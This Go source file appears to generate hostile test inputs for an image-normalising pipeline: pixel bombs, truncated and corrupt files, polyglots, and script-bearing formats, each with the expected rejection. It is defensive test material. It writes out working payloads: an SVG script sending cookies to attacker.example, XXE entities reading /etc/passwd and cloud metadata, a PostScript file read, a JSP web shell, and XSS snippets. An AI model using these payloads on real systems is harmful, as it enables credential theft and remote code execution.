package hostile

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"image"
	"image/color"
	"image/color/palette"
	"image/gif"
)

// The normaliser's limits these cases probe (imageproc's defaults): 100 MP for formats that
// shrink while decoding (baseline JPEG, lossy WebP), half for the others, a quarter for
// progressive JPEG, interlaced PNG, lossless WebP and WebP with alpha, an eighth for animated
// WebP; 48 px the smallest side; 648 the photo's side.
const (
	photoSide = 648
	minSide   = 48
)

func side(w, h int) int { return min(photoSide, w, h) }

// bombs declare far more pixels than the limits in a few bytes: every one must be refused from
// its header, before a pixel is decoded.
func bombs() ([]Case, error) {
	jpegBomb, err := JPEGDeclaring(20000, 14000)
	if err != nil {
		return nil, err
	}
	prog, err := vipsJPEG(rgbPixels(portrait(64, 64)), 64, 64, 3, true, 80)
	if err != nil {
		return nil, err
	}
	progBomb, err := jpegSetSize(prog, 20000, 14000)
	if err != nil {
		return nil, err
	}
	anim, err := animatedWebPBombs()
	if err != nil {
		return nil, err
	}
	return append(anim, []Case{
		{Name: "bomb-png-65536x65536.png", Class: "bomb", What: "PNG IHDR declaring 65536×65536 RGB (12.9 GB decoded), 57 bytes", Data: PNGHeaderOnly(65536, 65536, 0), Want: Rejected(TooManyPixels)},
		{Name: "bomb-png-interlaced-8000x8000.png", Class: "bomb", What: "Adam7-interlaced PNG declaring 64 MP (cannot stream: the interlaced limit is a quarter)", Data: PNGHeaderOnly(8000, 8000, 1), Want: Rejected(TooManyPixels)},
		{Name: "bomb-jpeg-20000x14000.jpg", Class: "bomb", What: "baseline JPEG whose SOF0 declares 20000×14000 (280 MP)", Data: jpegBomb, Want: Rejected(TooManyPixels)},
		{Name: "bomb-jpeg-progressive-20000x14000.jpg", Class: "bomb", What: "progressive JPEG whose SOF2 declares 20000×14000", Data: progBomb, Want: Rejected(TooManyPixels)},
		// libnsgif sizes an image by its frames when the screen is implausibly larger, so the
		// 1×1 frame is the whole picture: too small, and nothing of the screen is allocated.
		{Name: "bomb-gif-65535x65535.gif", Class: "bomb", What: "GIF logical screen 65535×65535 around a 1×1 frame", Data: gifCanvas(65535, 65535), Want: Rejected(TooSmall)},
		{Name: "bomb-webp-16383x16383.webp", Class: "bomb", What: "lossless WebP 16383×16383 (268 MP) in 40 bytes: single-symbol prefix codes", Data: webpLossless(16383, 16383, color.NRGBA{10, 200, 30, 255}), Want: Rejected(TooManyPixels)},
		{Name: "bomb-webp-animated-canvas.webp", Class: "bomb", What: "animated WebP, canvas 16383×16383, one 1×1 frame", Data: webpAnimatedCanvas(16383, 16383), Want: Rejected(TooManyPixels)},
		{Name: "bomb-heic-16384x16384.heic", Class: "bomb", What: "HEIF boxes: one hvc1 item whose ispe declares 16384×16384 (268 MP)", Data: heicCanvas(16384, 16384), Want: Rejected(TooManyPixels)},
		// libheif refuses a side over 16384 while reading the header: corrupt, not too large.
		{Name: "bomb-heic-32768x32768.heic", Class: "bomb", What: "HEIF ispe declaring 32768×32768, past libheif's own limit", Data: heicCanvas(32768, 32768), Want: Rejected(CorruptImage)},
		{Name: "bomb-tiff-100000x100000.tif", Class: "bomb", What: "TIFF IFD declaring 100000×100000 RGB over a 3-byte strip", Data: tiffImage(100000, 100000, 3, 8, 2, []byte{1, 2, 3}), Want: Rejected(TooManyPixels)},
	}...), nil
}

// animatedWebPBombs are animations (VP8X + ANIM + ANMF) within the 100 MP limit of a lossy
// still WebP but over the eighth an animation gets: libvips composes the first frame on a
// full-size RGBA canvas and decodes a lossless frame whole, about 9 bytes a canvas pixel when
// a frame does not fill the canvas. Each was accepted and decoded before animations had their
// own budget (peaks measured then in What).
func animatedWebPBombs() ([]Case, error) {
	rgb := rgbPixels(portrait(64, 64))
	lossy, err := WebPImageChunks(rgb, 64, 64, 3, false)
	if err != nil {
		return nil, err
	}
	withAlpha, err := WebPImageChunks(rgbaPixels(portrait(64, 64)), 64, 64, 4, false)
	if err != nil {
		return nil, err
	}
	if len(withAlpha) != 2 || withAlpha[0].Kind != "ALPH" {
		return nil, fmt.Errorf("webp with alpha: the encoder wrote %d chunks, not ALPH and VP8", len(withAlpha))
	}
	green := color.NRGBA{10, 200, 30, 255}
	return []Case{
		{Name: "bomb-webp-animated-lossless-10000x10000.webp", Class: "bomb", What: "animated WebP whose one ANMF frame is 10000×10000 lossless (100 MP) in 88 bytes; was decoded whole at 436 MB", Data: WebPFile(VP8X(VP8XAnimation, 10000, 10000), ANIM(), ANMF(0, 0, 10000, 10000, VP8LSolid(10000, 10000, green))), Want: Rejected(TooManyPixels)},
		{Name: "bomb-webp-animated-lossless-5000x5000.webp", Class: "bomb", What: "animated WebP, 25 MP canvas, a 5000×4998 lossless frame that does not fill it: within a quarter of the limit, over an eighth; was 268 MB", Data: WebPFile(VP8X(VP8XAnimation, 5000, 5000), ANIM(), ANMF(0, 0, 5000, 4998, VP8LSolid(5000, 4998, green))), Want: Rejected(TooManyPixels)},
		{Name: "bomb-webp-animated-alpha-5000x5000.webp", Class: "bomb", What: "animated WebP, 25 MP canvas, a 64×64 lossy frame with its alpha (ALPH) inside ANMF and no alpha flag in VP8X; was 269 MB", Data: WebPFile(VP8X(VP8XAnimation, 5000, 5000), ANIM(), ANMF(0, 0, 64, 64, withAlpha...)), Want: Rejected(TooManyPixels)},
		{Name: "bomb-webp-animated-lossy-7000x7000.webp", Class: "bomb", What: "animated WebP, 49 MP canvas around a 64×64 lossy frame: the canvas is what libvips allocates; was 261 MB", Data: WebPFile(VP8X(VP8XAnimation, 7000, 7000), ANIM(), ANMF(0, 0, 64, 64, lossy...)), Want: Rejected(TooManyPixels)},
	}, nil
}

// decompression cases are within the limits but cost real work: the pipeline must stream them
// in bounded memory.
func decompression() ([]Case, error) {
	// 49 MP of zero RGB (147 MB decoded) in a 140 KB PNG: just under the 50 MP non-streaming limit.
	zeros, err := pngStream(7000, 7000, func(int, []byte) {}, nil)
	if err != nil {
		return nil, err
	}
	// 16 MP progressive JPEG with detail: libjpeg keeps every coefficient of a progressive
	// image until the last scan.
	const pw, ph = 4000, 4000
	prog, err := vipsJPEG(detailPixels(pw, ph), pw, ph, 3, true, 70)
	if err != nil {
		return nil, err
	}
	// A zTXt chunk inflating to 64 MiB of zeros in a 64×64 PNG.
	var zb bytes.Buffer
	zw, _ := zlib.NewWriterLevel(&zb, zlib.BestCompression)
	chunk := make([]byte, 1<<20)
	for range 64 {
		zw.Write(chunk)
	}
	zw.Close()
	ztxt := append([]byte("Comment\x00\x00"), zb.Bytes()...)
	textBomb, err := pngStream(64, 64, func(y int, b []byte) {
		for i := range b {
			b[i] = byte(y * 4)
		}
	}, func(b *bytes.Buffer) {
		for range 4 {
			PNGChunk(b, "zTXt", ztxt)
		}
	})
	if err != nil {
		return nil, err
	}
	// A 600×600 PNG whose image data is cut into one-byte IDAT chunks.
	fine, err := encodePNG(portrait(600, 600))
	if err != nil {
		return nil, err
	}
	fineChunks, err := pngChunks(fine)
	if err != nil {
		return nil, err
	}
	var many bytes.Buffer
	many.WriteString(pngSignature)
	var idat []byte
	for _, c := range fineChunks {
		if string(c[0]) == "IDAT" {
			idat = append(idat, c[1]...)
		}
	}
	PNGChunk(&many, "IHDR", fineChunks[0][1])
	for _, b := range idat {
		PNGChunk(&many, "IDAT", []byte{b})
	}
	PNGChunk(&many, "IEND", nil)
	// A JPEG with 60 APP segments of 64 KB (EXIF-, XMP- and ICC-like): 3.9 MB of metadata to strip.
	meta, err := encodeJPEG(portrait(500, 500), 85)
	if err != nil {
		return nil, err
	}
	var segs [][]byte
	junk := bytes.Repeat([]byte("<x:xmpmeta>GPS 51.5N 0.1W</x:xmpmeta>"), 1800)[:65000]
	for i := range 60 {
		segs = append(segs, jpegSegment(0xE1+byte(i%14), append([]byte("http://ns.adobe.com/xap/1.0/\x00"), junk...)))
	}
	return []Case{
		{Name: "decompress-png-7000x7000-zeros.png", Class: "decompression", What: fmt.Sprintf("49 MP RGB PNG of zeros, %d KB (147 MB decoded)", len(zeros)>>10), Data: zeros, Want: Photo(photoSide)},
		{Name: "decompress-jpeg-progressive-4000x4000.jpg", Class: "decompression", What: fmt.Sprintf("16 MP progressive JPEG with detail, %d KB", len(prog)>>10), Data: prog, Want: Photo(photoSide)},
		{Name: "decompress-webp-solid-9999x10000.webp", Class: "decompression", What: "lossless WebP of 99.99 MP, one colour, 40 bytes: lossless WebP decodes whole, so it gets a quarter of the 100 MP limit", Data: webpLossless(9999, 10000, color.NRGBA{30, 90, 200, 255}), Want: Rejected(TooManyPixels)},
		{Name: "decompress-webp-animated-3535x3535.webp", Class: "decompression", What: "animated WebP of 12.5 MP, just under the animation limit, in its costliest layout: a lossless frame (3535×3533) that does not fill the canvas", Data: WebPFile(VP8X(VP8XAnimation, 3535, 3535), ANIM(), ANMF(0, 0, 3535, 3533, VP8LSolid(3535, 3533, color.NRGBA{200, 90, 30, 255}))), Want: Photo(photoSide)},
		{Name: "decompress-webp-solid-4999x5000.webp", Class: "decompression", What: "lossless WebP of 25 MP, one colour, 40 bytes: just under the lossless limit, decoded whole (100 MB of ARGB)", Data: webpLossless(4999, 5000, color.NRGBA{90, 30, 200, 255}), Want: Photo(photoSide)},
		{Name: "decompress-png-ztxt-bomb.png", Class: "decompression", What: "64×64 PNG with four zTXt chunks inflating to 64 MiB each", Data: textBomb, Want: Photo(64)},
		{Name: "decompress-png-one-byte-idats.png", Class: "decompression", What: fmt.Sprintf("600×600 PNG in %d one-byte IDAT chunks", len(idat)), Data: many.Bytes(), Want: Photo(600)},
		{Name: "decompress-jpeg-metadata-3900k.jpg", Class: "decompression", What: "500×500 JPEG carrying 60 APPn segments of 64 KB", Data: jpegInsert(meta, segs...), Want: Photo(500)},
	}, nil
}

// truncations cut good files at many offsets. A cut inside the magic bytes leaves no known
// format; any later cut removes image data and must be reported as corrupt, not decoded as
// grey.
func truncations() ([]Case, error) {
	var out []Case
	base, err := encodeJPEG(portrait(640, 480), 85)
	if err != nil {
		return nil, err
	}
	prog, err := vipsJPEG(rgbPixels(portrait(640, 480)), 640, 480, 3, true, 85)
	if err != nil {
		return nil, err
	}
	pngFull, err := encodePNG(portrait(320, 240))
	if err != nil {
		return nil, err
	}
	gifFull := gifOf(portrait(200, 200))
	webpFull := webpLossless(300, 300, color.NRGBA{1, 2, 3, 255})
	cut := func(prefix, ext string, full []byte, at int, want Want) {
		out = append(out, Case{
			Name: fmt.Sprintf("truncated-%s-at-%d.%s", prefix, at, ext), Class: "truncated",
			What: fmt.Sprintf("%s of %d bytes cut after %d", prefix, len(full), at), Data: full[:at], Want: want,
		})
	}
	cut("jpeg", "jpg", base, 2, Rejected(UnsupportedFormat))
	for _, at := range []int{20, 200, len(base) / 4, len(base) / 2, len(base) * 9 / 10, len(base) - 100} {
		cut("jpeg", "jpg", base, at, Rejected(CorruptImage))
	}
	for _, at := range []int{len(prog) / 3, len(prog) * 2 / 3, len(prog) - 64} {
		cut("progressive-jpeg", "jpg", prog, at, Rejected(CorruptImage))
	}
	cut("png", "png", pngFull, 7, Rejected(UnsupportedFormat))
	for _, at := range []int{8, 30, len(pngFull) / 2, len(pngFull) - 30} {
		cut("png", "png", pngFull, at, Rejected(CorruptImage))
	}
	cut("gif", "gif", gifFull, len(gifFull)/2, Rejected(CorruptImage))
	cut("webp", "webp", webpFull, len(webpFull)-6, Rejected(CorruptImage))
	return out, nil
}

// corruptHeaders keep a format's magic bytes and break what follows.
func corruptHeaders() ([]Case, error) {
	good, err := encodePNG(portrait(100, 100))
	if err != nil {
		return nil, err
	}
	badCRC := append([]byte(nil), good...)
	badCRC[29] ^= 0xFF // last byte of IHDR's CRC
	var zeroWidth, badDepth bytes.Buffer
	zeroWidth.WriteString(pngSignature)
	PNGChunk(&zeroWidth, "IHDR", ihdr(0, 100, 8, 2, 0))
	PNGChunk(&zeroWidth, "IEND", nil)
	badDepth.WriteString(pngSignature)
	PNGChunk(&badDepth, "IHDR", ihdr(100, 100, 7, 2, 0))
	PNGChunk(&badDepth, "IEND", nil)

	j, err := encodeJPEG(portrait(100, 100), 80)
	if err != nil {
		return nil, err
	}
	zeroSize, err := jpegSetSize(j, 0, 0)
	if err != nil {
		return nil, err
	}
	twelveBit := append([]byte(nil), j...)
	if i := bytes.Index(twelveBit, []byte{0xFF, 0xC0}); i > 0 {
		twelveBit[i+4] = 12 // sample precision 12, which an 8-bit libjpeg refuses
	}
	hugeSegment := append([]byte{0xFF, 0xD8, 0xFF, 0xE1, 0xFF, 0xFF}, bytes.Repeat([]byte{0}, 100)...)

	var tiffBad bytes.Buffer
	tiffBad.WriteString("II*\x00")
	binary.Write(&tiffBad, binary.LittleEndian, uint32(0x7FFFFFF0))
	tiffBad.Write(make([]byte, 64))

	var gifEmpty bytes.Buffer
	gifEmpty.WriteString("GIF89a\x00\x00\x00\x00\x00\x00\x00;")

	webpGarbage := WebPFile(WebPChunk{"VP8 ", bytes.Repeat([]byte{0xAB}, 64)})
	heicNoMeta := box("ftyp", []byte("heic"), be32(0), []byte("mif1heic"))
	return []Case{
		{Name: "corrupt-png-ihdr-crc.png", Class: "corrupt", What: "PNG with a wrong IHDR CRC", Data: badCRC, Want: Rejected(CorruptImage)},
		{Name: "corrupt-png-zero-width.png", Class: "corrupt", What: "PNG IHDR with width 0", Data: zeroWidth.Bytes(), Want: Rejected(CorruptImage)},
		{Name: "corrupt-png-bit-depth-7.png", Class: "corrupt", What: "PNG IHDR with bit depth 7", Data: badDepth.Bytes(), Want: Rejected(CorruptImage)},
		{Name: "corrupt-jpeg-zero-size.jpg", Class: "corrupt", What: "JPEG SOF0 declaring 0×0", Data: zeroSize, Want: Rejected(CorruptImage)},
		{Name: "corrupt-jpeg-12-bit.jpg", Class: "corrupt", What: "JPEG SOF0 claiming 12-bit samples over 8-bit data", Data: twelveBit, Want: Rejected(CorruptImage)},
		{Name: "corrupt-jpeg-soi-eoi.jpg", Class: "corrupt", What: "JPEG of SOI, a marker byte and EOI, nothing else", Data: []byte{0xFF, 0xD8, 0xFF, 0xD9}, Want: Rejected(CorruptImage)},
		{Name: "corrupt-jpeg-segment-overrun.jpg", Class: "corrupt", What: "JPEG APP1 segment length 65535 over 100 bytes", Data: hugeSegment, Want: Rejected(CorruptImage)},
		{Name: "corrupt-tiff-ifd-offset.tif", Class: "corrupt", What: "TIFF whose first IFD is 2 GB past the end", Data: tiffBad.Bytes(), Want: Rejected(CorruptImage)},
		{Name: "corrupt-gif-empty.gif", Class: "corrupt", What: "GIF with a 0×0 screen and no frame", Data: gifEmpty.Bytes(), Want: Rejected(CorruptImage)},
		{Name: "corrupt-webp-vp8-garbage.webp", Class: "corrupt", What: "WebP RIFF whose VP8 chunk is 64 bytes of 0xAB", Data: webpGarbage, Want: Rejected(CorruptImage)},
		{Name: "corrupt-heic-ftyp-only.heic", Class: "corrupt", What: "HEIF ftyp box and nothing else", Data: heicNoMeta, Want: Rejected(CorruptImage)},
	}, nil
}

// scripts are active content: SVG is refused outright, never handed to a renderer.
func scripts() ([]Case, error) {
	svgScript := `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="800" height="800"><script>fetch("https://attacker.example/?c="+document.cookie)</script><rect width="800" height="800" fill="red"/></svg>`
	svgXXE := `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY remote SYSTEM "http://169.254.169.254/latest/meta-data/iam/">]>
<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><text x="0" y="20">&xxe;&remote;</text></svg>`
	svgImage := `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="600"><image xlink:href="file:///proc/self/environ" width="600" height="600"/></svg>`
	var svgz bytes.Buffer
	gz := gzip.NewWriter(&svgz)
	gz.Write([]byte(svgScript))
	gz.Close()
	html := `<!doctype html><html><body><img src=x onerror="alert(document.domain)"><script>alert(1)</script></body></html>`
	return []Case{
		{Name: "script-svg-script.svg", Class: "script", What: "SVG with a <script> that posts cookies", Data: []byte(svgScript), Want: Rejected(UnsupportedFormat)},
		{Name: "script-svg-xxe.svg", Class: "script", What: "SVG with external entities (file:///etc/passwd, instance metadata)", Data: []byte(svgXXE), Want: Rejected(UnsupportedFormat)},
		{Name: "script-svg-file-href.svg", Class: "script", What: "SVG embedding file:///proc/self/environ", Data: []byte(svgImage), Want: Rejected(UnsupportedFormat)},
		{Name: "script-svgz.svgz", Class: "script", What: "gzip-compressed SVG with a script", Data: svgz.Bytes(), Want: Rejected(UnsupportedFormat)},
		{Name: "script-html.html", Class: "script", What: "HTML page with script and onerror", Data: []byte(html), Want: Rejected(UnsupportedFormat)},
	}, nil
}

// documents are other formats libvips could load with the right module: refused by their magic.
func documents() ([]Case, error) {
	pdf := "%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n" +
		"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj\n" +
		"trailer << /Root 1 0 R >>\n%%EOF\n"
	ps := "%!PS-Adobe-3.0\n%%BoundingBox: 0 0 600 600\n(/etc/passwd) (r) file 100 string readstring pop print\nshowpage\n%%EOF\n"
	eps := append([]byte{0xC5, 0xD0, 0xD3, 0xC6, 30, 0, 0, 0, byte(len(ps)), 0, 0, 0}, make([]byte, 18)...)
	eps = append(eps, ps...)
	bmp := append([]byte("BM"), make([]byte, 52)...)
	binary.LittleEndian.PutUint32(bmp[18:], 100)
	binary.LittleEndian.PutUint32(bmp[22:], 100)
	return []Case{
		{Name: "document-pdf-javascript.pdf", Class: "document", What: "PDF with an OpenAction JavaScript", Data: []byte(pdf), Want: Rejected(UnsupportedFormat)},
		{Name: "document-postscript.ps", Class: "document", What: "PostScript that reads /etc/passwd", Data: []byte(ps), Want: Rejected(UnsupportedFormat)},
		{Name: "document-eps-binary.eps", Class: "document", What: "DOS EPS binary header around PostScript", Data: eps, Want: Rejected(UnsupportedFormat)},
		{Name: "document-bmp-header.bmp", Class: "document", What: "BMP header (a format the API does not take)", Data: bmp, Want: Rejected(UnsupportedFormat)},
	}, nil
}

// polyglots are valid images that are also something else, or something else dressed as one.
// The photo that comes out must carry none of the other payload.
func polyglots() ([]Case, error) {
	j, err := encodeJPEG(portrait(400, 300), 85)
	if err != nil {
		return nil, err
	}
	var zb bytes.Buffer
	zw := zip.NewWriter(&zb)
	f, _ := zw.Create("payload/evil.jsp")
	f.Write([]byte(`<% Runtime.getRuntime().exec(request.getParameter("c")); %>`))
	zw.Close()
	jpegZip := append(append([]byte(nil), j...), zb.Bytes()...)
	zipJPEG := append(append([]byte(nil), zb.Bytes()...), j...)

	p, err := encodePNG(portrait(300, 300))
	if err != nil {
		return nil, err
	}
	chunks, err := pngChunks(p)
	if err != nil {
		return nil, err
	}
	var ph bytes.Buffer
	ph.WriteString(pngSignature)
	script := []byte("<html><script>alert(document.cookie)</script><!--")
	for i, c := range chunks {
		PNGChunk(&ph, string(c[0]), c[1])
		if i == 0 {
			PNGChunk(&ph, "tEXt", append([]byte("Comment\x00"), script...))
		}
	}
	ph.WriteString("--><body onload=alert(1)></html>")

	pdfJPEG := append([]byte{0xFF, 0xD8, 0xFF, 0xFE, 0x00, 0x10}, []byte("%PDF-1.4 hidden\n")...)
	pdfJPEG = append(pdfJPEG, []byte("1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")...)
	return []Case{
		{Name: "polyglot-jpeg-zip.jpg", Class: "polyglot", What: "JPEG with a ZIP (JSP web shell) appended", Data: jpegZip, Want: Photo(side(400, 300))},
		{Name: "polyglot-zip-jpeg.zip", Class: "polyglot", What: "ZIP first, JPEG appended", Data: zipJPEG, Want: Rejected(UnsupportedFormat)},
		{Name: "polyglot-png-html.png", Class: "polyglot", What: "PNG with HTML in a tEXt chunk and after IEND", Data: ph.Bytes(), Want: Photo(300)},
		{Name: "polyglot-jpeg-pdf.jpg", Class: "polyglot", What: "JPEG magic and COM segment, then a PDF", Data: pdfJPEG, Want: Rejected(CorruptImage)},
	}, nil
}

// sizes are the degenerate geometries: nothing, one pixel, a line.
func sizes() ([]Case, error) {
	grey := func(w, h int) ([]byte, error) {
		return pngStream(w, h, func(y int, b []byte) {
			for i := range b {
				b[i] = byte(i + y)
			}
		}, nil)
	}
	one, err := grey(1, 1)
	if err != nil {
		return nil, err
	}
	line, err := grey(1, 100000)
	if err != nil {
		return nil, err
	}
	wide, err := grey(100000, 1)
	if err != nil {
		return nil, err
	}
	least, err := grey(minSide, minSide)
	if err != nil {
		return nil, err
	}
	under, err := grey(minSide-1, 200)
	if err != nil {
		return nil, err
	}
	strip, err := grey(minSide, 100000)
	if err != nil {
		return nil, err
	}
	jline, err := encodeJPEG(portrait(8, 8), 80)
	if err != nil {
		return nil, err
	}
	jline, err = jpegSetSize(jline, 60000, 1)
	if err != nil {
		return nil, err
	}
	return []Case{
		{Name: "size-zero-bytes.jpg", Class: "size", What: "an empty file", Data: []byte{}, Want: Rejected(UnsupportedFormat)},
		{Name: "size-1x1.png", Class: "size", What: "1×1 PNG", Data: one, Want: Rejected(TooSmall)},
		{Name: "size-1x100000.png", Class: "size", What: "1×100000 PNG", Data: line, Want: Rejected(TooSmall)},
		{Name: "size-100000x1.png", Class: "size", What: "100000×1 PNG", Data: wide, Want: Rejected(TooSmall)},
		{Name: "size-jpeg-60000x1.jpg", Class: "size", What: "JPEG SOF declaring 60000×1", Data: jline, Want: Rejected(TooSmall)},
		{Name: "size-47x200.png", Class: "size", What: "47×200 PNG, one pixel under Graph's smallest side", Data: under, Want: Rejected(TooSmall)},
		{Name: "size-48x48.png", Class: "size", What: "48×48 PNG, the smallest Graph takes", Data: least, Want: Photo(minSide)},
		{Name: "size-48x100000.png", Class: "size", What: "48×100000 PNG strip", Data: strip, Want: Photo(minSide)},
	}, nil
}

// depths are the sample formats beyond 8-bit RGB.
func depths() ([]Case, error) {
	rgb16 := image.NewRGBA64(image.Rect(0, 0, 800, 600))
	for y := 0; y < 600; y++ {
		for x := 0; x < 800; x++ {
			rgb16.SetRGBA64(x, y, color.RGBA64{uint16(x * 81), uint16(y * 109), 0x8000, 0xFFFF})
		}
	}
	png16, err := encodePNG(rgb16)
	if err != nil {
		return nil, err
	}
	ga16 := image.NewNRGBA64(image.Rect(0, 0, 300, 300))
	for y := 0; y < 300; y++ {
		for x := 0; x < 300; x++ {
			v := uint16(x * 218)
			ga16.SetNRGBA64(x, y, color.NRGBA64{v, v, v, uint16(y * 218)})
		}
	}
	pngGA, err := encodePNG(ga16)
	if err != nil {
		return nil, err
	}
	strip16 := make([]byte, 500*500*6)
	for i := 0; i < len(strip16); i += 2 {
		binary.LittleEndian.PutUint16(strip16[i:], uint16(i*7))
	}
	cmykStrip := make([]byte, 400*400*4)
	for i := range cmykStrip {
		cmykStrip[i] = byte(i * 3)
	}
	cmykPix := make([]byte, 500*400*4)
	for y := 0; y < 400; y++ {
		for x := 0; x < 500; x++ {
			i := (y*500 + x) * 4
			cmykPix[i], cmykPix[i+1], cmykPix[i+2], cmykPix[i+3] = byte(255*x/500), byte(255-255*x/500), byte(y/2), 20
		}
	}
	cmykJPEG, err := vipsJPEG(cmykPix, 500, 400, 4, false, 90)
	if err != nil {
		return nil, err
	}
	pal := image.NewPaletted(image.Rect(0, 0, 700, 700), color.Palette{color.Black, color.White})
	for y := 0; y < 700; y++ {
		for x := 0; x < 700; x++ {
			pal.SetColorIndex(x, y, uint8((x/10+y/10)%2))
		}
	}
	png1, err := encodePNG(pal)
	if err != nil {
		return nil, err
	}
	return []Case{
		{Name: "depth-png-16bit-rgb.png", Class: "depth", What: "800×600 16-bit RGB PNG", Data: png16, Want: Photo(600)},
		{Name: "depth-png-16bit-grey-alpha.png", Class: "depth", What: "300×300 16-bit grey + alpha PNG", Data: pngGA, Want: Photo(300)},
		{Name: "depth-png-1bit-palette.png", Class: "depth", What: "700×700 1-bit palette PNG", Data: png1, Want: Photo(photoSide)},
		{Name: "depth-tiff-16bit-rgb.tif", Class: "depth", What: "500×500 16-bit RGB TIFF, uncompressed", Data: tiffImage(500, 500, 3, 16, 2, strip16), Want: Photo(500)},
		{Name: "depth-tiff-cmyk.tif", Class: "depth", What: "400×400 CMYK TIFF without a profile", Data: tiffImage(400, 400, 4, 8, 5, cmykStrip), Want: Photo(400)},
		{Name: "depth-jpeg-cmyk.jpg", Class: "depth", What: "500×400 CMYK JPEG (Adobe APP14, inverted), no profile", Data: cmykJPEG, Want: Photo(400)},
	}, nil
}

// animations: only the first frame becomes the photo, and the rest must not be decoded.
func animations() ([]Case, error) {
	const n, w = 1000, 200
	g := &gif.GIF{Config: image.Config{Width: w, Height: w, ColorModel: color.Palette(palette.Plan9)}}
	for i := range n {
		fr := image.NewPaletted(image.Rect(0, 0, w, w), palette.Plan9)
		c := uint8(i % 256)
		for y := 0; y < w; y++ {
			for x := 0; x < w; x++ {
				if (x+i)%40 < 20 {
					fr.Pix[y*w+x] = c
				}
			}
		}
		g.Image = append(g.Image, fr)
		g.Delay = append(g.Delay, 2)
	}
	var b bytes.Buffer
	if err := gif.EncodeAll(&b, g); err != nil {
		return nil, fmt.Errorf("encode gif: %w", err)
	}
	return []Case{
		{Name: "animation-gif-1000-frames.gif", Class: "animation", What: fmt.Sprintf("%d-frame 200×200 GIF, %d KB", n, b.Len()>>10), Data: b.Bytes(), Want: Photo(w)},
	}, nil
}

func gifOf(img image.Image) []byte {
	var b bytes.Buffer
	gif.Encode(&b, img, &gif.Options{NumColors: 256})
	return b.Bytes()
}

// rgbaPixels is img's colours, unassociated, with an alpha that falls from opaque at the top to
// clear at the bottom.
func rgbaPixels(img *image.RGBA) []byte {
	b := img.Bounds()
	out := make([]byte, 0, b.Dx()*b.Dy()*4)
	for y := b.Min.Y; y < b.Max.Y; y++ {
		a := 255 - 255*(y-b.Min.Y)/b.Dy()
		for x := b.Min.X; x < b.Max.X; x++ {
			c := img.RGBAAt(x, y)
			out = append(out, c.R, c.G, c.B, byte(a))
		}
	}
	return out
}

func rgbPixels(img *image.RGBA) []byte {
	b := img.Bounds()
	out := make([]byte, 0, b.Dx()*b.Dy()*3)
	for i := 0; i < len(img.Pix); i += 4 {
		out = append(out, img.Pix[i], img.Pix[i+1], img.Pix[i+2])
	}
	return out
}

// detailPixels is a w×h RGB picture with texture at several scales (so a JPEG of it is neither
// trivially small nor noise).
func detailPixels(w, h int) []byte {
	out := make([]byte, w*h*3)
	for y := 0; y < h; y++ {
		for x := 0; x < w; x++ {
			i := (y*w + x) * 3
			out[i] = byte(x*255/w) ^ byte((x/3+y/5)&15)
			out[i+1] = byte(y*255/h) ^ byte((x*y/7)&31)
			out[i+2] = byte((x/17 + y/13) * 9)
		}
	}
	return out
}
